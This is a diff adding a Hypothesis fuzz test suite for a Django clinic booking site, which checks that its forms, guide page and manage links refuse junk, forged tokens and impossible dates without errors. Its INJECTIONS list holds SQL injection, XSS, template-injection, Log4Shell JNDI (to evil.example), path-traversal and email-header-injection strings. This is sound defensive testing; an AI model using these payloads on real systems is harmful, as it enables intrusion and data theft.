@@ -1,0 +1,766 @@
+"""
+Hypothesis fuzz of the public forms: the booking form, the guide and the
+manage link. Whatever a visitor or a bot sends (any unicode, very long
+strings, control characters, SQL and HTML injection, impossible dates,
+forged slots and tokens, repeated fields), the site answers with a page,
+never a 5xx, and never stores a booking the form should have refused.
+
+Each test reads what it needs once (the form as first shown, the offered
+slots) and freezes the clinic's clock; every example then runs in a
+savepoint that is rolled back, so all examples start from the same
+database and the same free slots. The suite's database decides where they
+run: SQLite, or PostgreSQL, which refuses NUL characters in text and so
+catches any that reach a query.
+
+Strategies that depend on the database are built once per test, in
+fixtures, and drawn from with `st.data()`: building them per example would
+spend most of the time validating strategies.
+"""
+
+import json
+import os
+import re
+import time
+import unicodedata
+from base64 import urlsafe_b64encode
+from contextlib import contextmanager
+from datetime import UTC, datetime, timedelta
+from functools import cache
+from urllib.parse import quote, urlencode
+
+import pytest
+from django.core import signing
+from django.db import transaction
+from django.test import Client
+from django.utils import timezone
+from hypothesis import HealthCheck, given
+from hypothesis import settings as hypothesis_settings
+from hypothesis import strategies as st
+
+from booking.availability import Slot, bookable_slots
+from booking.forms import FORM_TOKEN_SALT
+from booking.forms import new_form_token as fresh_form_token
+from booking.models import REFERENCE_ALPHABET, ConsultationBooking, OutboundEmail
+from booking.tokens import SALT as MANAGE_LINK_SALT
+from tests.booking_helpers import BOOK_URL, book, clinic_clock, filled_booking_form
+from treatments.models import SkinConcern, SkinGoal, SkinSensitivity, Treatment
+
+pytestmark = pytest.mark.django_db
+
+
+# FUZZ_SCALE=10 runs ten times the examples, for a longer search than
+# `make test` can afford (the booking page takes tens of milliseconds to render).
+FUZZ_SCALE = float(os.environ.get("FUZZ_SCALE", "1"))
+
+
+def fuzz(examples):
+    """
+    Hypothesis settings for a test whose every example is a request or two.
+    The function-scoped fixtures (client, frozen clock, the form as first
+    shown) are shared by the examples on purpose: each example rolls back
+    what it wrote. No example database, so nothing is written to the repo.
+    """
+    return hypothesis_settings(
+        max_examples=max(1, round(examples * FUZZ_SCALE)),
+        deadline=None,
+        database=None,
+        print_blob=True,
+        suppress_health_check=[
+            HealthCheck.function_scoped_fixture,
+            HealthCheck.too_slow,
+            HealthCheck.data_too_large,
+        ],
+    )
+
+
+# --- What gets sent ------------------------------------------------------------
+
+INJECTIONS = (
+    "'; DROP TABLE booking_consultationbooking; --",
+    "' OR '1'='1",
+    '" OR 1=1 --',
+    "1); DELETE FROM auth_user; --",
+    "' UNION SELECT password FROM auth_user --",
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "javascript:alert(1)",
+    "{{ settings.SECRET_KEY }}",
+    "{% debug %}",
+    "${jndi:ldap://evil.example/a}",
+    "../../../../etc/passwd",
+    "%00",
+    "\x00",
+    "\r\nBcc: victim@example.com",
+    "\u202egnp.exe",  # right-to-left override
+    "\ufeff",
+    "Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇",
+    "👩🏽‍⚕️" * 40,
+)
+# Markup no page may echo unescaped (the HTML injections above).
+MARKUP = ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>')
+
+# Any unicode text; surrogates cannot be sent as UTF-8, so they are left out.
+any_text = st.text(st.characters(exclude_categories=("Cs",)), max_size=60)
+control_text = st.text(st.characters(categories=("Cc",)), min_size=1, max_size=8)
+# Past every max_length on the form (the message takes 2,000 characters).
+long_text = st.builds(
+    lambda unit, times: unit * times, st.text(min_size=1, max_size=4), st.integers(40, 700)
+)
+nasty_text = st.one_of(any_text, control_text, long_text, st.sampled_from(INJECTIONS))
+
+
+@cache
+def sent_value(plausible):
+    """
+    One field's value: plausible, plausible with something nasty inside,
+    nasty, or several of those (a repeated field).
+    """
+    spliced = st.builds(
+        lambda value, piece, at: value[:at] + piece + value[at:],
+        st.sampled_from(plausible),
+        st.one_of(control_text, st.sampled_from(INJECTIONS), any_text),
+        st.integers(0, 30),
+    )
+    one = st.one_of(st.sampled_from(plausible), spliced, nasty_text)
+    return st.one_of(one, st.lists(one, max_size=4))
+
+
+PLAUSIBLE = {
+    "full_name": ("Ada Quinterra", "Zoë O'Brien-Nakamura", "李小龍", "Ng", "José María Ñúñez"),
+    "email": ("ada.quinterra@example.com", "zoe+clinic@example.co.uk", "x@bücher.example"),
+    "phone": ("(212) 555-0147", "+1 212 555 0147", "212.555.0147", "+44 20 7946 0958"),
+    "message": ("", "Mornings suit me best.", "Line one\nLine two\r\n\tindented"),
+    "preferred_contact": ("email", "phone", "text"),
+    "consent": ("on", "", "false", "0"),
+    "marketing_opt_in": ("on", "", "false"),
+    "website": ("",),
+    "unexpected": ("x",),
+}
+
+
+def slot_text(moment):
+    """Any datetime in the form's slot format, years zero-padded like the real thing."""
+    return (
+        f"{moment.year:04d}-{moment.month:02d}-{moment.day:02d}"
+        f"T{moment.hour:02d}:{moment.minute:02d}Z"
+    )
+
+
+IMPOSSIBLE_SLOTS = [
+    "0001-01-01T00:00Z",
+    "9999-12-31T23:59Z",
+    "2026-02-30T10:00Z",
+    "2026-13-01T10:00Z",
+    "2026-04-31T10:00Z",
+    "2026-01-01T24:00Z",
+    "2026-01-01T10:60Z",
+    "-001-01-01T10:00Z",
+    "",
+    " ",
+    "null",
+    "1e309",
+]
+FULLWIDTH_DIGITS = str.maketrans("0123456789", "０１２３４５６７８９")
+OTHER_FORMATS = (
+    lambda moment: moment.isoformat(),
+    lambda moment: moment.strftime("%Y-%m-%dT%H:%M:%SZ"),
+    lambda moment: moment.strftime("%Y-%m-%dT%H:%Mz"),
+    lambda moment: moment.strftime("%Y-%m-%d %H:%MZ"),
+    lambda moment: slot_text(timezone.localtime(moment)),  # clinic time, labelled UTC
+    lambda moment: f" {slot_text(moment)} ",
+    lambda moment: slot_text(moment).translate(FULLWIDTH_DIGITS),
+)
+
+
+def slot_values(offered, *extra):
+    """
+    Slot values: the offered ones, near misses (a minute, a week, a year
+    off), other spellings of an offered instant, any instant from year 1 to
+    9999, impossible dates, `extra` values, and anything at all.
+    """
+    # By index: a strategy sampling the list itself would print it whole in reports.
+    any_offered = st.integers(0, len(offered) - 1).map(offered.__getitem__)
+    near_miss = st.builds(
+        lambda starts_at, minutes: slot_text(starts_at + timedelta(minutes=minutes)),
+        any_offered,
+        st.one_of(
+            st.sampled_from([-1, 1, 15, -15, 29, 60 * 24 * 7, -60 * 24 * 7, 60 * 24 * 365]),
+            st.integers(-60 * 24 * 400, 60 * 24 * 400),
+        ),
+    )
+    other_format = st.builds(
+        lambda starts_at, render: render(starts_at),
+        any_offered,
+        st.sampled_from(OTHER_FORMATS),
+    )
+    one = st.one_of(
+        any_offered.map(slot_text),
+        near_miss,
+        other_format,
+        st.datetimes(datetime(1, 1, 1), datetime(9999, 12, 31, 23, 59)).map(slot_text),
+        st.sampled_from([*IMPOSSIBLE_SLOTS, *extra]),
+        nasty_text,
+    )
+    return st.one_of(one, st.lists(one, min_size=2, max_size=3))
+
+
+def last(value):
+    """What Django reads from a field sent several times: the last value (none if none sent)."""
+    if isinstance(value, list):
+        return value[-1] if value else None
+    return value
+
+
+def named(strategy):
+    """
+    The strategy as a fixture hands it over: Hypothesis prints a failing
+    example's fixtures in full, and a strategy's own repr runs to pages.
+    """
+    return st.deferred(lambda: strategy)
+
+
+# Tokens, genuine and forged.
+
+
+class _BackdatedSigner(signing.TimestampSigner):
+    """Signs as if it were `days` ago: a genuine token that has expired."""
+
+    def __init__(self, *, days, **kwargs):
+        super().__init__(**kwargs)
+        self.days = days
+
+    def timestamp(self):
+        return signing.b62_encode(int(time.time()) - self.days * 24 * 3600)
+
+
+def backdated(obj, *, salt, days):
+    return _BackdatedSigner(salt=salt, days=days).sign_object(obj)
+
+
+def tampered(token, at, char):
+    at %= len(token)
+    return token[:at] + char + token[at + 1 :]
+
+
+def lookalike(payload, timestamp, signature):
+    """Shaped like a signed token (payload:timestamp:signature), signed by nobody."""
+    encoded = urlsafe_b64encode(json.dumps(payload).encode()).decode().rstrip("=")
+    return f"{encoded}:{signing.b62_encode(timestamp)}:{signature}"
+
+
+form_token_payloads = st.one_of(
+    st.fixed_dictionaries({"k": any_text, "t": st.floats(allow_nan=False)}),
+    st.recursive(
+        st.none() | st.booleans() | st.integers() | any_text,
+        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(any_text, inner, max_size=3),
+        max_leaves=6,
+    ),
+)
+signatures = st.text(
+    st.sampled_from("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"),
+    max_size=50,
+)
+
+
+def forged_tokens(genuine, *, salt, payloads):
+    """Anything but a token this site signed: made up, signed with the wrong key or salt, altered."""
+    return st.one_of(
+        nasty_text,
+        st.builds(lookalike, payloads, st.integers(0, 2**40), signatures),
+        st.builds(lambda obj: signing.dumps(obj, salt=salt, key="not-the-secret-key"), payloads),
+        st.builds(lambda obj: signing.dumps(obj, salt="some.other.salt"), payloads),
+        st.builds(tampered, st.just(genuine), st.integers(0, 10_000), st.characters()).filter(
+            lambda token: token != genuine
+        ),
+        st.builds(lambda cut: genuine[:cut], st.integers(0, len(genuine) - 1)),
+        st.builds(lambda junk: genuine + junk, st.text(min_size=1, max_size=6)),
+        st.builds(lambda junk: junk + genuine, st.text(min_size=1, max_size=6)),
+    )
+
+
+# Query strings.
+
+RAW_QUERY_ALPHABET = st.sampled_from(list("%&=+;?#/.-_ 0123456789abcdefABCDEFxz\x00\n\t'\"<>é😀"))
+
+
+def query_strings(plausible, keys):
+    """Parameters (some repeated, some unknown) or raw text with broken %-escapes."""
+    params = st.dictionaries(
+        st.one_of(st.sampled_from(keys), any_text), sent_value(tuple(plausible)), max_size=4
+    )
+    return st.one_of(params, st.text(RAW_QUERY_ALPHABET, max_size=80))
+
+
+DATES_AND_SLUGS = (
+    "professional-facial",
+    "medical-grade-facial",
+    "2026-12-07",
+    "0001-01-01",
+    "9999-12-31",
+    "2026-02-30",
+    "-2026-01-01",
+    "20261207",
+)
+
+
+# --- What must hold ------------------------------------------------------------
+
+E164 = re.compile(r"\+[1-9][0-9]{1,14}")
+# Unicode's control characters (C0, DEL, C1): no one types them. A message
+# may keep its line breaks and tabs; nothing else stored may hold any.
+LINE_BREAKS_AND_TABS = frozenset("\t\n\r")
+
+
+def control_characters(value, *, allowed=frozenset()):
+    return sorted(
+        {char for char in value if unicodedata.category(char) == "Cc" and char not in allowed}
+    )
+
+
+def post_form(client, path, fields):
+    """POST as a browser posts these forms: URL-encoded, repeated fields kept."""
+    return client.post(
+        path, urlencode(fields, doseq=True), content_type="application/x-www-form-urlencoded"
+    )
+
+
+def get_with(client, path, query):
+    if isinstance(query, str):
+        return client.get(f"{path}?{query}")
+    return client.get(path, query)
+
+
+@contextmanager
+def rolled_back():
+    """Whatever the example writes is undone, so the next starts from the same database."""
+    with transaction.atomic():
+        yield
+        transaction.set_rollback(True)
+
+
+def assert_no_markup_echoed(response):
+    body = response.content.decode(errors="replace")
+    for markup in MARKUP:
+        assert markup not in body, f"{markup!r} is echoed unescaped"
+
+
+def assert_valid_stored_booking(booking, offered):
+    """A booking the public form stored: what a correct form lets through, nothing more."""
+    booking.full_clean()
+    assert booking.starts_at in offered, f"{booking.starts_at} was never offered"
+    assert booking.ends_at > booking.starts_at
+    phone = str(booking.phone)
+    assert E164.fullmatch(phone), f"phone {phone!r} is not E.164"
+    assert booking.phone.is_valid()
+    for field in ("full_name", "email", "phone", "preferred_contact"):
+        value = str(getattr(booking, field))
+        assert not control_characters(value), (
+            f"{field} stored with control characters {control_characters(value)}: {value!r}"
+        )
+    found = control_characters(booking.message, allowed=LINE_BREAKS_AND_TABS)
+    assert not found, f"message stored with control characters {found}: {booking.message!r}"
+    assert booking.full_name.strip(), "a blank name was stored"
+    assert booking.treatment is None or booking.treatment in Treatment.objects.published()
+    assert set(booking.concerns.all()) <= set(SkinConcern.objects.for_guide())
+    # Written in one transaction with its history and its two messages.
+    assert list(booking.status_changes.values_list("from_status", "to_status")) == [
+        ("", ConsultationBooking.Status.REQUESTED)
+    ]
+    assert sorted(booking.emails.values_list("kind", flat=True)) == sorted(
+        [OutboundEmail.Kind.RECEIPT, OutboundEmail.Kind.CLINIC_ALERT]
+    )
+
+
+def booked_from(client, response):
+    """The booking a 302 from the booking form points at; its page must render too."""
+    reference = response.url.rstrip("/").rsplit("/", 1)[-1]
+    assert response.url == f"/book/received/{reference}/"
+    received = client.get(response.url)
+    assert received.status_code == 200
+    assert_no_markup_echoed(received)
+    return ConsultationBooking.objects.get(reference=reference)
+
+
+def assert_booking_outcome(client, response, *, bookings_before, offered):
+    """Never a 5xx; a booking only on a redirect, and then a valid one."""
+    assert response.status_code in {200, 302, 429}, f"answered {response.status_code}"
+    assert_no_markup_echoed(response)
+    if response.status_code == 302:
+        assert ConsultationBooking.objects.count() == bookings_before + 1
+        booking = booked_from(client, response)
+        assert_valid_stored_booking(booking, offered)
+        return booking
+    assert ConsultationBooking.objects.count() == bookings_before, "a refused form booked"
+    return None
+
+
+def booking_state(booking):
+    booking.refresh_from_db()
+    return booking.status, booking.starts_at, booking.ends_at, booking.calendar_sequence
+
+
+def manage_path(token):
+    # Quoted whole: a token with a slash must reach the site, not split the path.
+    return f"/book/manage/{quote(token, safe='')}/"
+
+
+class Slots(list):
+    """Start times; a short repr keeps Hypothesis's report of a failing example readable."""
+
+    def __repr__(self):
+        return f"<{len(self)} slots from {self[0]:%Y-%m-%d %H:%M} UTC>" if self else "<no slots>"
+
+
+# --- Fixtures ------------------------------------------------------------------
+
+
+@pytest.fixture(autouse=True)
+def _no_rate_limit(settings):
+    # Every example comes from the same address; the limit has its own tests.
+    # Here each valid submission must reach the database, to be checked there.
+    settings.BOOKING_RATE_LIMIT = 10**9
+
+
+@pytest.fixture
+def frozen_clock():
+    # The offered slots must not change while the examples run (a slot at
+    # the horizon could come into reach halfway through).
+    with clinic_clock(timezone.now()) as now:
+        yield now
+
+
+@pytest.fixture
+def browser():
+    return Client()
+
+
+@pytest.fixture
+def taken(frozen_clock):
+    """A booking holding the first free slot: a forged post for it must be refused."""
+    return book()
+
+
+@pytest.fixture
+def offered(taken):
+    """The slots the booking form offers (the taken one is not among them)."""
+    slots = Slots(slot.starts_at for slot in bookable_slots())
+    assert slots and taken.starts_at not in slots
+    return slots
+
+
+@pytest.fixture
+def blank_form(browser, taken):
+    """
+    What a visitor posts for a valid booking (the first time still free, as
+    the page shows it once `taken` is booked); examples post it with a fresh
+    form token unless the token is what they test.
+    """
+    _, data = filled_booking_form(browser)
+    assert data["slot"] != slot_text(taken.starts_at)
+    return data
+
+
+@pytest.fixture
+def choices():
+    """The slugs the booking form and the guide offer, from the seeded content."""
+    return {
+        "treatment": ("", *Treatment.objects.published().values_list("slug", flat=True)),
+        "concerns": tuple(SkinConcern.objects.for_guide().values_list("slug", flat=True)),
+        "sensitivity": tuple(SkinSensitivity.objects.for_guide().values_list("slug", flat=True)),
+        "goal": tuple(SkinGoal.objects.for_guide().values_list("slug", flat=True)),
+    }
+
+
+@pytest.fixture
+def moving(taken):
+    """A second booking, to be moved through its manage link, and the times it may move to."""
+    booking = book()
+    return booking, Slots(slot.starts_at for slot in bookable_slots(ignore_booking=booking))
+
+
+# --- The booking form ----------------------------------------------------------
+
+
+@pytest.fixture
+def booking_answers(choices):
+    """One to three fields of the form changed, each to anything at all."""
+    per_field = {
+        **{field: sent_value(values) for field, values in PLAUSIBLE.items()},
+        "treatment": sent_value(choices["treatment"]),
+        "concerns": sent_value(choices["concerns"]),
+    }
+    changed = st.lists(st.sampled_from(sorted(per_field)), min_size=1, max_size=3, unique=True)
+    return named(
+        changed.flatmap(
+            lambda fields: st.fixed_dictionaries({field: per_field[field] for field in fields})
+        )
+    )
+
+
+@fuzz(150)
+@given(data=st.data())
+def test_booking_form_never_fails_and_stores_only_valid_bookings_whatever_the_fields_hold(
+    browser, blank_form, offered, booking_answers, data
+):
+    answers = data.draw(booking_answers, label="answers")
+    with rolled_back():
+        before = ConsultationBooking.objects.count()
+        response = post_form(
+            browser, BOOK_URL, {**blank_form, "form_token": fresh_form_token(), **answers}
+        )
+        assert_booking_outcome(browser, response, bookings_before=before, offered=offered)
+
+
+# Found by the fuzz; kept as plain examples so they run every time.
+CONTROL_CHARACTER_ANSWERS = [
+    ("full_name", "Ada\x07Quinterra"),
+    ("full_name", "Ada \x1b[31mQuinterra"),
+    ("full_name", "Ada\nQuinterra"),
+    ("full_name", "Ada\x85Quinterra"),
+    ("message", "Call me\x1b[2J"),
+    ("message", "Mornings\x08\x08\x08\x08\x08\x08\x08\x08Evenings"),
+]
+
+
+@pytest.mark.parametrize(("field", "value"), CONTROL_CHARACTER_ANSWERS)
+def test_control_characters_in_an_answer_are_never_stored(
+    browser, blank_form, offered, field, value
+):
+    before = ConsultationBooking.objects.count()
+
+    response = post_form(browser, BOOK_URL, {**blank_form, field: value})
+
+    assert_booking_outcome(browser, response, bookings_before=before, offered=offered)
+
+
+@pytest.fixture
+def booking_slots(offered, taken):
+    return named(slot_values(offered, slot_text(taken.starts_at)))
+
+
+@fuzz(150)
+@given(data=st.data())
+def test_booking_form_books_only_a_slot_it_offers_whatever_slot_is_sent(
+    browser, blank_form, offered, booking_slots, data
+):
+    slot = data.draw(booking_slots, label="slot")
+    with rolled_back():
+        before = ConsultationBooking.objects.count()
+        response = post_form(
+            browser, BOOK_URL, {**blank_form, "form_token": fresh_form_token(), "slot": slot}
+        )
+        booking = assert_booking_outcome(browser, response, bookings_before=before, offered=offered)
+        if booking is not None:
+            # The time sent, however it was spelled (any digits, any case), and no other.
+            sent = re.sub(r"\d", lambda digit: str(int(digit[0])), last(slot).strip()).upper()
+            assert slot_text(booking.starts_at) == sent
+
+
+@pytest.mark.parametrize("slot", IMPOSSIBLE_SLOTS)
+def test_impossible_slot_values_get_the_form_back(browser, blank_form, slot):
+    before = ConsultationBooking.objects.count()
+
+    response = post_form(browser, BOOK_URL, {**blank_form, "slot": slot})
+
+    assert response.status_code == 200
+    assert ConsultationBooking.objects.count() == before
+
+
+@pytest.fixture
+def form_tokens(blank_form):
+    """(token or tokens sent, whether it is the genuine one the page gave)."""
+    genuine = blank_form["form_token"]
+    expired = backdated(
+        {"k": "expired", "t": time.time() - 2 * 24 * 3600}, salt=FORM_TOKEN_SALT, days=2
+    )
+    forged = st.one_of(
+        forged_tokens(genuine, salt=FORM_TOKEN_SALT, payloads=form_token_payloads),
+        st.just(expired),
+    )
+    sent = st.one_of(
+        st.none(),  # no token at all
+        forged,
+        st.lists(st.one_of(forged, st.just(genuine)), min_size=2, max_size=3),
+    )
+    return named(sent.map(lambda token: (token, token is not None and last(token) == genuine)))
+
+
+@fuzz(80)
+@given(data=st.data())
+def test_booking_form_books_only_with_the_genuine_form_token(
+    browser, blank_form, form_tokens, data
+):
+    token, genuine = data.draw(form_tokens, label="form_token")
+    fields = {key: value for key, value in blank_form.items() if key != "form_token"}
+    if token is not None:
+        fields["form_token"] = token
+    with rolled_back():
+        before = ConsultationBooking.objects.count()
+        response = post_form(browser, BOOK_URL, fields)
+        if genuine:
+            assert response.status_code == 302
+            assert ConsultationBooking.objects.count() == before + 1
+        else:
+            assert response.status_code == 200, f"answered {response.status_code}"
+            assert ConsultationBooking.objects.count() == before
+
+
+# --- Pages read with GET -------------------------------------------------------
+
+
+@fuzz(60)
+@given(query=query_strings(DATES_AND_SLUGS, ["treatment", "from", "slot"]))
+def test_booking_page_renders_whatever_the_query_string(browser, frozen_clock, query):
+    response = get_with(browser, BOOK_URL, query)
+
+    assert response.status_code == 200
+    assert b'name="form_token"' in response.content
+    assert_no_markup_echoed(response)
+
+
+@pytest.fixture
+def guide_queries(choices):
+    answers = choices["concerns"] + choices["sensitivity"] + choices["goal"]
+    return named(query_strings(answers, ["concerns", "sensitivity", "goal"]))
+
+
+def guide_answers_valid(query, choices):
+    """Whether the guide should suggest something: every answer on its list."""
+    if not isinstance(query, dict):
+        return None  # a raw query string: not worked out here
+    concerns = query.get("concerns")
+    concerns = concerns if isinstance(concerns, list) else [concerns]
+    return (
+        concerns != []
+        and all(concern in choices["concerns"] for concern in concerns)
+        and last(query.get("sensitivity")) in choices["sensitivity"]
+        and last(query.get("goal")) in choices["goal"]
+    )
+
+
+@fuzz(250)
+@given(data=st.data())
+def test_guide_answers_any_query_string_with_a_page(browser, choices, guide_queries, data):
+    query = data.draw(guide_queries, label="query")
+
+    response = get_with(browser, "/guide/", query)
+
+    assert response.status_code == 200
+    assert_no_markup_echoed(response)
+    valid = guide_answers_valid(query, choices)
+    if valid is not None:
+        assert (b'id="result-heading"' in response.content) == valid
+
+
+# --- The manage link -----------------------------------------------------------
+
+ACTIONS = ("move", "cancel", "MOVE", " cancel", "confirm", "delete", "")
+
+
+@pytest.fixture
+def manage_links(taken):
+    """(a token that is not a working link to `taken`, the status it must get)."""
+    genuine = taken.get_manage_url().split("/")[-2]
+    other_references = st.text(st.sampled_from(REFERENCE_ALPHABET), min_size=1, max_size=12)
+    return named(
+        st.one_of(
+            st.tuples(
+                forged_tokens(genuine, salt=MANAGE_LINK_SALT, payloads=any_text), st.just(404)
+            ),
+            # Signed by the site, for a booking that does not exist.
+            st.tuples(
+                other_references.filter(lambda reference: reference != taken.reference).map(
+                    lambda reference: signing.dumps(reference, salt=MANAGE_LINK_SALT)
+                ),
+                st.just(404),
+            ),
+            st.just((backdated(taken.reference, salt=MANAGE_LINK_SALT, days=400), 410)),
+        )
+    )
+
+
+@fuzz(1000)
+@given(data=st.data())
+def test_forged_and_expired_manage_links_change_nothing(browser, taken, manage_links, data):
+    token, expected = data.draw(manage_links, label="token")
+    method = data.draw(st.sampled_from(["GET", "POST"]), label="method")
+    before = booking_state(taken)
+    # Nothing is rolled back: a forged link that wrote anything fails here at once.
+    if method == "GET":
+        response = browser.get(manage_path(token))
+    else:
+        fields = {
+            "action": data.draw(sent_value(ACTIONS), label="action"),
+            "slot": data.draw(sent_value((slot_text(taken.starts_at),)), label="slot"),
+        }
+        response = post_form(browser, manage_path(token), fields)
+
+    assert response.status_code == expected, f"answered {response.status_code}"
+    assert booking_state(taken) == before
+
+
+@pytest.fixture
+def move_requests(moving, taken):
+    """What a manage page's form could be made to post: any action, any slot, extra fields."""
+    _, offered_for_move = moving
+    fields = st.fixed_dictionaries(
+        {
+            "action": st.one_of(st.just("move"), sent_value(ACTIONS)),
+            "slot": slot_values(offered_for_move, slot_text(taken.starts_at)),
+        }
+    )
+    extra = st.dictionaries(any_text, nasty_text, max_size=2)
+    return named(st.builds(lambda extra, fields: {**extra, **fields}, extra, fields))
+
+
+@fuzz(150)
+@given(data=st.data())
+def test_manage_link_moves_a_booking_only_to_a_time_on_offer(
+    browser, moving, taken, move_requests, data
+):
+    booking, offered_for_move = moving
+    path = booking.get_manage_url()
+    status_before, starts_before, _, sequence_before = booking_state(booking)
+    fields = data.draw(move_requests, label="fields")
+    with rolled_back():
+        response = post_form(browser, path, fields)
+
+        assert response.status_code in {200, 302}, f"answered {response.status_code}"
+        assert_no_markup_echoed(response)
+        status, starts_at, ends_at, sequence = booking_state(booking)
+        booking.full_clean()
+        assert starts_at in offered_for_move, f"moved to {starts_at}, never offered"
+        assert starts_at != taken.starts_at
+        assert ends_at == starts_at + timedelta(minutes=30)
+        if starts_at != starts_before:
+            assert booking.emails.filter(kind=OutboundEmail.Kind.RESCHEDULED).exists()
+            assert sequence == sequence_before + 1
+        assert status in {status_before, ConsultationBooking.Status.CANCELLED}
+
+
+@pytest.mark.parametrize("slot", IMPOSSIBLE_SLOTS)
+def test_impossible_slot_values_leave_a_booking_where_it_is(browser, moving, slot):
+    booking, _ = moving
+    before = booking_state(booking)
+
+    response = post_form(browser, booking.get_manage_url(), {"action": "move", "slot": slot})
+
+    assert response.status_code == 200
+    assert booking_state(booking) == before
+
+
+@fuzz(60)
+@given(query=query_strings(DATES_AND_SLUGS, ["from"]))
+def test_manage_page_renders_whatever_the_query_string(browser, moving, query):
+    booking, _ = moving
+
+    response = get_with(browser, booking.get_manage_url(), query)
+
+    assert response.status_code == 200
+    assert_no_markup_echoed(response)
+
+
+def test_the_fuzz_writes_slots_as_the_booking_form_does():
+    starts_at = datetime(2026, 12, 7, 14, 30, tzinfo=UTC)
+
+    assert slot_text(starts_at) == Slot(starts_at, starts_at + timedelta(minutes=30), 1).value
